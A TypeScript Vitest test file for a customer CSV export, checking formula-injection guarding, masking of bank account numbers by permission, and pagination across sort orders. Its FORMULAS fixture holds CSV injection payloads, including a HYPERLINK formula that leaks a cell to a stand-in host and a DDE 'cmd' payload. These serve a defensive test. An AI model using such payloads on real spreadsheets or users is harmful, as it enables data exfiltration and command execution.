import { DayWorld } from '@cordelle/engine/testing/day-world.ts';
import { customerExportInput } from '@cordelle/validation/customers/export.ts';
import type { customerListInput } from '@cordelle/validation/customers/record.ts';
import { ALL_PERMISSIONS, type Permission } from '@cordelle/validation/permissions.ts';
import { UploadedFile } from '@cordelle/validation/uploaded-file.ts';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { z } from 'zod';
import { readCsv } from '../imports/read-spreadsheet.ts';
import { Callers } from '../testing/callers.ts';
import { exportCustomers } from './export-customers.ts';

let world: DayWorld;
let callers: Callers;

beforeAll(async () => {
  world = await DayWorld.open();
  world.setClock('2026-03-16', '10:00');
  await world.addClient({ id: 4n, rail: 'CA', customers: 1, accountOf: () => '7700123' });
  await world.addClient({ id: 5n, rail: 'CA', customers: 0 });
  await world.addClient({ id: 6n, rail: 'CA', customers: 0 });
  callers = new Callers(world);
});
afterAll(() => world.close());

type Exported = z.input<typeof customerExportInput>;

async function csv(clientId: bigint, input: Exported = {}, without: readonly Permission[] = []): Promise<Buffer> {
  const permissions = new Set(ALL_PERMISSIONS.filter((permission) => !without.includes(permission)));
  const pieces = exportCustomers(
    world.app(),
    { id: clientId, country: 'CA', permissions },
    customerExportInput.parse(input),
    { actor: 'user:1', requestId: null },
  );
  const bytes: Uint8Array[] = [];
  for await (const piece of pieces) bytes.push(piece);
  return Buffer.concat(bytes);
}

/** Cells of a column, as a spreadsheet program or our own import reads the file. */
async function column(name: string, bytes: Uint8Array): Promise<(string | undefined)[]> {
  const { headers, rows } = await readCsv(new UploadedFile('customers.csv', bytes));
  return rows.map(({ cells }) => cells[headers.indexOf(name)]);
}

const FORMULAS = [
  '=HYPERLINK("https://evil.test?"&A1,"click")',
  '+1 514 555-0123',
  '-2+3+cmd|’ /C calc’!A0',
  '@SUM(1;2)',
  '＝1+1',
  'O\'Connor, "Bo"',
  'two\nlines',
  'plain',
];

describe('a cell that a spreadsheet program would calculate', () => {
  beforeAll(async () => {
    for (const [index, name] of FORMULAS.entries())
      await world.database.owner`
        insert into customers (client_id, id, name, identifier, city, phone, customer_type, language, created_at)
        values (5, ${5001 + index}, ${name}, ${`C-${5001 + index}`}, ${name}, ${name}, 'Personal', 'en', now())`;
  });
  const oldestFirst: Exported = { sort: { field: 'createdAt', direction: 'asc' } };

  test('is guarded, wherever it stands', async () => {
    const lines = (await csv(5n, oldestFirst)).toString().replace(/^\uFEFF/, '');
    expect(lines).toContain(`"'=HYPERLINK(""https://evil.test?""&A1,""click"")"`);
    expect(lines).toContain("'+1 514 555-0123");
    const cells: string[][] = parse(lines);
    for (const cell of cells.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
  });

  test('comes back as it was when the file is imported', async () => {
    const bytes = await csv(5n, oldestFirst);
    for (const name of ['name', 'city', 'phone']) expect(await column(name, bytes), name).toEqual(FORMULAS);
  });
});

describe('numbers of accounts', () => {
  test('are masked for who may not see them, and none is opened', async () => {
    const opened = async () =>
      (await world.database.owner`select 1 from audit_log where action = 'bank_numbers.open'`).length;
    const before = await opened();
    const bytes = await csv(4n, {}, ['customers.view_unmasked_bank_numbers']);
    expect(bytes.toString()).not.toContain('7700123');
    expect(await column('account_number', bytes)).toEqual(['*****67']);
    expect([await column('transit_number', bytes), await column('institution_number', bytes)]).toEqual([
      ['*****'],
      ['***'],
    ]);
    expect(await opened()).toBe(before);
  });

  test('stand in clear for who may, written down with why', async () => {
    expect(await column('account_number', await csv(4n))).toEqual(['7700123']);
  });
});

describe('a list of many parts', () => {
  /** More than two parts, with blanks and with values many share, so that parts end among them. */
  const COUNT = 2_500;
  beforeAll(async () => {
    await world.database.owner.unsafe(`
      insert into customers (client_id, id, name, identifier, custom_identifier, email, customer_type, language, active, created_at)
      select 6, 600000 + n, 'Name ' || n % 7, 'C-' || n, case when n % 3 = 0 then null else 'K' || lpad(n::text, 5, '0') end,
             case when n % 2 = 0 then 'shared@example.test' end, 'Personal', 'en', n % 10 <> 0,
             timestamptz '2026-01-01' + n / 4 * interval '1 microsecond'
        from generate_series(1, ${COUNT}) n`);
  });
  const sorts: NonNullable<z.input<typeof customerListInput>['sort']>[] = (
    ['createdAt', 'name', 'customIdentifier', 'email'] as const
  ).flatMap((field) => [
    { field, direction: 'asc' },
    { field, direction: 'desc' },
  ]);

  test.each(sorts)('by $field $direction has everybody once, in the order of the list', async (sort) => {
    const ids = await column('id', await csv(6n, { filter: 'all', sort }));
    expect(new Set(ids).size).toBe(COUNT);
    expect(ids.length).toBe(COUNT);
    const call = await callers.member({ clientId: 6n, role: 'client_admin' });
    for (const skip of [0, 900, 1_950, 2_400]) {
      const page = await (await call()).customers.list({ filter: 'all', sort, skip, limit: 100 });
      expect(page.records.map(({ id }) => id)).toEqual(ids.slice(skip, skip + 100));
    }
  });

  test('is narrowed like the list', async () => {
    const ids = await column('id', await csv(6n, { search: 'name 3' }));
    const page = await (await (await callers.member({ clientId: 6n, role: 'client_admin' }))()).customers.list({
      search: 'name 3',
      limit: 200,
    });
    expect([ids.length, ids.slice(0, 200)]).toEqual([page.count, page.records.map(({ id }) => id)]);
  });

  test('that nobody reads on is made no further', async () => {
    const pieces = exportCustomers(
      world.app(),
      { id: 6n, country: 'CA', permissions: new Set(ALL_PERMISSIONS) },
      customerExportInput.parse({}),
      { actor: 'user:1', requestId: null },
    );
    await pieces.next();
    await pieces.next();
    await pieces.return(undefined);
    const [busy] = await world.database.owner<{ count: bigint }[]>`
      select count(*) as count from pg_stat_activity
       where datname = current_database() and state like 'idle in transaction%'`;
    expect(busy?.count).toBe(0n);
  });
});
